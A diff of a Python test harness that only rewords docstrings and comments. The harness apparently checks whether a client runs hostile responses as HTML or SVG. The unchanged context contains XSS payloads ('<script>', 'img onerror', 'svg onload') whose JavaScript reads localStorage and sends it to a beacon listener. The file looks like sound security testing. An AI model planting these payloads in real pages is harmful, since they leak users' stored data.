@@ -1,4 +1,4 @@
-"""An origin with hostile response headers, and a listener that scripts report to."""
+"""An origin with hostile response headers, and a listener to which scripts report."""
 
 import random
 import socket
@@ -46,7 +46,7 @@ class Beacon:
 
 
 class HostileOrigin:
-    """Serves the cases as `/<number>.<extension>`, byte for byte, and `files` by path."""
+    """Serves the cases byte for byte as `/<number>.<extension>`, and `files` by their paths."""
 
     def __init__(self, cases: list[Case]):
         self.cases = cases
@@ -99,7 +99,7 @@ class HostileOrigin:
 
 
 def script(beacon: str) -> str:
-    """Returns a script that reports its execution, with the local storage it can read."""
+    """Returns a script that reports its execution, and the local storage that it can read."""
     return (f"var s='';try{{s=JSON.stringify(localStorage)}}catch(e){{s='none'}};"
             f"new Image().src='{beacon}/ran?'+encodeURIComponent(location.pathname)+'&'+encodeURIComponent(s)")
 
@@ -107,8 +107,8 @@ def script(beacon: str) -> str:
 def bodies(beacon: str) -> list[bytes]:
     """Returns documents that run a script if a browser treats them as HTML or SVG.
 
-    Most don't start like a page, so that their first bytes don't identify them. Their lengths are multiples of 16, like
-    those of encrypted segments.
+    Most don't start like a page, so that they can't be identified by their first bytes. Their lengths are multiples of
+    16, like those of encrypted segments.
     """
     code = script(beacon)
     page = f"<script>{code}</script><img src=x onerror=\"{code}\"><svg onload=\"{code}\"></svg>"
@@ -136,7 +136,7 @@ def bodies(beacon: str) -> list[bytes]:
 
 
 def song(picture: bytes, kind: str) -> bytes:
-    """Returns a song whose ID3 tag (version 2.3) has a picture (APIC) of a media type."""
+    """Returns a song whose ID3 tag (version 2.3) contains a picture (APIC) with the given media type."""
     content = b"\0" + kind.encode("latin-1", "replace").replace(b"\0", b"") + b"\0\x03\0" + picture
     frame = b"APIC" + len(content).to_bytes(4, "big") + b"\0\0" + content
     length = bytes(len(frame) >> shift & 0x7F for shift in (21, 14, 7, 0))
@@ -186,11 +186,12 @@ OTHERS = [
 
 
 def make(beacon: str, seed: int = SEED) -> list[Case]:
-    """Returns the cases of a seed: each type once as the only hostile field, then mixtures."""
+    """Returns the cases for a seed: first each type as the only hostile field, then mixtures."""
     generator = random.Random(seed)
 
     def pick(values: list[str], counts: tuple[int, ...]) -> list[str]:
-        # Most responses with a control character aren't HTTP, and are refused after several attempts: a few are enough.
+        # Most responses with control characters aren't valid HTTP and are refused only after several attempts, so a few
+        # are enough.
         plain = [value for value in values if not any(char < " " and char != "\t" for char in value)]
         return generator.choices(values if generator.random() < 0.05 else plain, k=generator.choice(counts))
 
